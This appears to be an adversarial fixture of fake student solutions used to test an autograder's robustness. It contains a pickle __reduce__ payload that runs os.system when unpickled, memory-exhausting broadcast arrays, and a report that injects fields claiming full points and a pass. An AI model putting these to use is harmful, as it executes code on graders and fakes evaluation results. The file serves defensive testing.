# attack: answers whose unpickling runs code, arrays of a million by a million without any memory behind them, and a report with a points field
# on: empty

# %% solution="operating_point"
import os


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/left_by_a_student_was_here",))


def operating_point(y_true, p, specificity):
    return np.array([Bomb()], dtype=object)


# %% solution="report"
def report(y_true, p, threshold):
    endless = np.broadcast_to(np.float64(1), (10**6, 10**6))
    return {
        "auroc": endless,
        "auprc": complex(1, 1),
        "sensitivity": np.zeros(0),
        "specificity": float("inf"),
        "confusion": endless,
        "points": 4,
        "max_points": 4,
        "outcome": "passed",
        "passed": True,
    }


# %% solution="model"
class RetinalCNN(nn.Module):
    def __init__(self, n_classes):
        super().__init__()
        self.n = n_classes

    def forward(self, images):
        return torch.zeros(1, 1).expand(10**6, 10**6)
